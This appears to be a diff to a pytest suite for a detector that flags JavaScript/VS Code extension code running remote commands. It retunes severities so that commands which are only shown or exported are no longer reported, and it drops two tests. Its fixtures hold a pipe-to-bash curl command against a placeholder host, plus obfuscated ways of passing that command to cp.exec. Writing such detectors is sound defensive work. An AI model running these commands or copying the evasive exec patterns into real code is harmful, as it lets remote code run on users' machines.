@@ -161,22 +161,20 @@ def test_a_line_beyond_the_lookback_is_not_a_comment() -> None:
 CONSTANT = EXEC + 'cp.exec("git status");const INSTALL="curl -fsSL https://acme.example | bash";'
 
 
-@pytest.mark.parametrize("export", ["export{INSTALL,a as b};", "exports.INSTALL = INSTALL;"])
-def test_a_command_that_a_file_only_exports_is_medium(export: str) -> None:
-    assert found(CONSTANT + export, "a.mjs") == {"runs-remote-code": Severity.MEDIUM}
-
-
 @pytest.mark.parametrize(
     "use",
     [
+        "",
         "vscode.window.showErrorMessage(`Not found. Run this: ${INSTALL}`, 'Copy');",
         "const { window: w } = vscode; w.showInformationMessage(INSTALL);",
         "vscode.env.clipboard.writeText(INSTALL);",
+        "const hint = `or ${INSTALL}`; vscode.window.showInformationMessage(hint);",
+        "export{INSTALL,a as b};",
     ],
 )
-def test_a_command_that_is_only_shown_is_low(use: str) -> None:
+def test_a_command_that_is_only_shown_or_exported_is_not_found(use: str) -> None:
     start = f'const vscode = require("vscode");{CONSTANT}'
-    assert found(start + use, "a.mjs") == {"runs-remote-code": Severity.LOW}
+    assert found(start + use, "a.mjs") == {}
     assert found(f"{start}{use}cp.exec(INSTALL);", "a.mjs")["runs-remote-code"] == HIGH
 
 
@@ -187,21 +185,9 @@ def test_a_command_that_is_only_shown_is_low(use: str) -> None:
         "vscode.window.showErrorMessage(`${cp.exec(INSTALL)}`);",
         "const x = { showErrorMessage: cp.exec }; x.showErrorMessage(INSTALL);",
         "const w = window; w['show' + 'ErrorMessage'] = cp.exec; w.showErrorMessage(INSTALL);",
-        "run(INSTALL);export{INSTALL};",
-        "const x=INSTALL;",
+        "const run = (c) => cp.exec(c); run(INSTALL);",
         "cp.exec(`${INSTALL}`);",
     ],
 )
 def test_a_command_that_its_file_uses_is_high(use: str) -> None:
     assert found(CONSTANT + use, "a.mjs")["runs-remote-code"] == HIGH
-
-
-def test_a_command_may_be_used_in_another_piece_of_its_file() -> None:
-    """A block is in one piece, and what is outside of all blocks may be used anywhere."""
-    vscode = 'const vscode = require("vscode");'
-    shown = f"{CONSTANT}vscode.window.showErrorMessage(INSTALL);"
-    padding = "work(1);\n" * 80_000
-    used = f"{vscode}{shown}{padding}cp.exec(INSTALL);"
-    assert found(used, "a.js")["runs-remote-code"] == HIGH
-    block = f"{vscode}{padding}{{ {shown} }} {padding}"
-    assert found(block, "a.js") == {"runs-remote-code": Severity.LOW}
